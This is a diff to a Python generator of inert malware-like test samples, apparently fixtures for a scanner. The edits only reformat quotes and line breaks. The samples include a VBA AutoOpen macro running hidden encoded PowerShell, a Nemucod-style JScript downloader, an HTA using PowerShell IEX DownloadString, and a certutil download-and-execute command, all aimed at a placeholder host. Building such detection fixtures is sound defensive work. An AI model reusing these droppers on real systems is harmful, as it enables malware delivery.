@@ -39,7 +39,7 @@ def vba_powershell() -> dict[str, bytes]:
             f"' {INERT_NOTE}",
             split("Sub Auto", "Open()"),
             "    Exit Sub",
-            split('    Shell("power', 'shell.exe -nop -w hidden -enc ', B64, '")'),
+            split('    Shell("power', "shell.exe -nop -w hidden -enc ", B64, '")'),
             "End Sub",
         )
     }
@@ -49,9 +49,9 @@ def nemucod() -> dict[str, bytes]:
     return {
         "nemucod-downloader-js": text(
             f"WScript.Quit(); // {INERT_NOTE}",
-            split('var x = new ActiveX', 'Object("MSXML2.XMLHTTP");'),
-            split('var s = new ActiveX', 'Object("ADODB.Stream");'),
-            split('var sh = WScript.Create', 'Object("WScript.Shell");'),
+            split("var x = new ActiveX", 'Object("MSXML2.XMLHTTP");'),
+            split("var s = new ActiveX", 'Object("ADODB.Stream");'),
+            split("var sh = WScript.Create", 'Object("WScript.Shell");'),
             'var p = sh.ExpandEnvironmentStrings("%TEMP%") + "\\\\a1.exe";',
             f'x.open("GET", "http://{HOST}/counter/?id=1", false); x.send();',
             split("s.open(); s.type = 1; s.write(x.responseBody); s.SaveTo", "File(p, 2);"),
@@ -68,7 +68,11 @@ def hta_powershell() -> dict[str, bytes]:
             '<script language="VBScript">',
             f"self.close ' {INERT_NOTE}",
             split('Set o = CreateObject("WScript.', 'Shell")'),
-            split('o.Run "power', "shell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)", f".DownloadString('http://{HOST}/a')\", 0"),
+            split(
+                'o.Run "power',
+                "shell.exe -nop -w hidden -c IEX (New-Object Net.WebClient)",
+                f".DownloadString('http://{HOST}/a')\", 0",
+            ),
             "</script></head></html>",
         )
     }
@@ -81,8 +85,11 @@ def hta_lolbin() -> dict[str, bytes]:
             split("<hta:", 'application id="doc" showintaskbar="no">'),
             "<script>",
             f"window.close(); // {INERT_NOTE}",
-            split('var o = new ActiveX', 'Object("WScript.Shell");'),
-            split('o.Run("cmd /c certutil', f" -urlcache -split -f http://{HOST}/d.exe %TEMP%\\\\d.exe && %TEMP%\\\\d.exe\", 0);"),
+            split("var o = new ActiveX", 'Object("WScript.Shell");'),
+            split(
+                'o.Run("cmd /c certutil',
+                f' -urlcache -split -f http://{HOST}/d.exe %TEMP%\\\\d.exe && %TEMP%\\\\d.exe", 0);',
+            ),
             "</script></head></html>",
         )
     }
